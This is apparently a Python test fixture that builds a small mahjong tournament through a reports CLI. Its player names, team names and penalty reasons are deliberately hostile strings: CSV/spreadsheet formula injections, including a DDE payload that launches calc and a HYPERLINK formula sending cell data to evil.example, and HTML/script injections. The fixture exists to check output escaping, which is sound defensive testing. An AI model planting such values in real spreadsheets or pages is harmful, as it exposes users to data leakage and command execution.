"""A small real tournament whose names and teams try to be formulas and HTML (built with the commands).

Eight players, two sessions seated, session 1 played at both tables (a scored full hand, totals-only
wins, self-drawn wins, draws, a penalty paid to the others and one deducted), session 2 seated only.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from db.read import queries
from db.storage.store import open_database
from reports.cli import main

# What a spreadsheet would run, and what a browser would run, if either read them as such.
HOSTILE = {
    "1": ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0"),
    "2": ("+1 555 0100", "@SUM(A1:A9)"),
    "3": ("-2+3", "=cmd|' /C calc'!A0"),
    "4": ("@Anna", "@SUM(A1:A9)"),
    "5": ('<script>alert("x")</script>', "<b>Team</b> & Co"),
    "6": ("张伟", "<b>Team</b> & Co"),
    "7": ("Jean \"JP\" O'Neil", "+Plus"),
    "8": ("李娜", "+Plus"),
}
REFEREE = "Ref Li"
STATION = "table-desk"


def _csv_field(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def seats_of_session_1(db: Path) -> dict[int, tuple[str, ...]]:
    """Session 1's seating in the file ``db``: table -> numbers at E, S, W, N."""
    with open_database(db) as database, database.reader() as s:
        return {t.table: tuple(p.number for p in t.players) for t in queries.seating(s, 1)}


def write_jsonl(path: Path, lines: list[dict[str, Any]]) -> Path:
    """``path``, written with ``lines`` as a results file (one JSON object a line) for ``results import``."""
    path.write_text("\n".join(json.dumps(x, ensure_ascii=False) for x in lines), encoding="utf-8")
    return path


def session_1_results(seats: dict[int, tuple[str, ...]], hands: dict[int, int], full: Callable[[int, int], bool],
                      draw: Callable[[int], bool]) -> list[dict[str, Any]]:
    """Hands 1 to ``hands[table]`` of session 1 at each table (:func:`result_line`): ``full(table, hand)`` says
    which are full hands, ``draw(hand)`` which are draws."""
    return [result_line({"session": 1, "table": table, "hand": hand}, seats[table], hand, full=full(table, hand),
                        draw=draw(hand))
            for table, count in hands.items() for hand in range(1, count + 1)]


def result_line(base: dict[str, Any], four: tuple[str, ...], hand: int, *, full: bool, draw: bool) -> dict[str, Any]:
    """Hand ``hand`` of a generated table (``four``: its players E, S, W, N; ``base``: where it is): a full
    hand the store scores when ``full``, else a draw when ``draw``, else a win by its fan total, self-drawn
    every third hand."""
    if full:
        return {**base, "type": "win", "winner": four[0], "discarder": four[1], "notation": "123456789m234p55p"}
    if draw:
        return {**base, "type": "draw"}
    if hand % 3 == 0:
        return {**base, "type": "win", "winner": four[hand % 4], "self_drawn": True, "fan": 8 + hand}
    return {**base, "type": "win", "winner": four[hand % 4], "discarder": four[(hand + 1) % 4], "fan": 8 + 2 * hand}


def build(tmp: Path) -> tuple[Path, dict[int, tuple[str, ...]]]:
    """The tournament file and session 1's seating (table -> numbers at E, S, W, N)."""
    db = tmp / "hostile.mcr"

    def run(*argv: str) -> None:
        assert main(["--db", str(db), "--referee", REFEREE, "--station", STATION, *argv]) == 0, argv

    run("init", "--name", "=Open <i>2026</i> 公开赛", "--sessions", "3")
    lines = ["number,name,team"] + [f"{n},{_csv_field(name)},{_csv_field(team)}" for n, (name, team) in HOSTILE.items()]
    (tmp / "players.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    run("players", "import", str(tmp / "players.csv"))
    run("seat", "1", "--seed", "3")
    run("seat", "2", "--seed", "3")
    seats = seats_of_session_1(db)
    results = session_1_results(seats, {1: 8, 2: 5}, lambda _table, hand: hand == 1, lambda hand: hand == 4)
    results.append({"session": 1, "table": 1, "hand": 2, "type": "penalty", "player": seats[1][2], "points": 30,
                    "settlement": "others", "kind": "false_win", "reason": "=1+1 wrong tile"})
    results.append({"session": 1, "table": 2, "type": "penalty", "player": seats[2][3], "points": 10,
                    "settlement": "deducted", "kind": "lateness", "reason": "-late <b>5 min</b>"})
    run("results", "import", str(write_jsonl(tmp / "results.jsonl", results)))
    return db, seats
